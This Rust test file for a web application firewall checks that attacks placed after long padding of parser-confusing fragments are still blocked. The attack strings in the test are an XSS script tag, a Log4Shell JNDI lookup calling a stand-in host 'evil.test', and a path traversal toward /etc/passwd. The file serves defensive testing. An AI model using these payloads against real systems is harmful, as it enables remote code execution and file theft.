//! Attacks behind a lot of something else, made of what tokenisers and patterns stumble over.

use crate::send;
use seaworthy_defence::{Action, Engine, Settings};

const PADDING: &[&str] = &[
    "The quick brown fox, isn't it? ",
    "<a ",
    "<a b='c' ",
    "<!-- ",
    "<![CDATA[ ",
    "' or ",
    "((((",
    "${${",
    "select (",
    "{{",
    "/* ",
    "/*!",
    "$a$ ",
    "q'[ ",
    "&#",
    "\\u{",
    "`",
    "\" on",
    "--\n",
    "x' and 1",
    "[[",
    "%25",
    "\u{ff1c}",
    "1,1,",
    "javascript ",
];

#[test]
fn padding_hides_nothing() {
    let engine = Engine::new(Settings::default());
    for padding in PADDING {
        for attack in ["<script>alert(1)</script>", "${jndi:ldap://evil.test/a}", "/etc/passwd;../../../../x"]
        {
            let text = format!("{} {attack}", padding.repeat(30_000 / padding.len()));
            for case in [send::json(&text), send::form(&text)] {
                let verdict = case.judge(&engine);
                assert_eq!(verdict.action, Action::Block, "{attack} behind {padding:?} in {}", case.place);
                assert!(!verdict.truncated);
            }
        }
    }
}
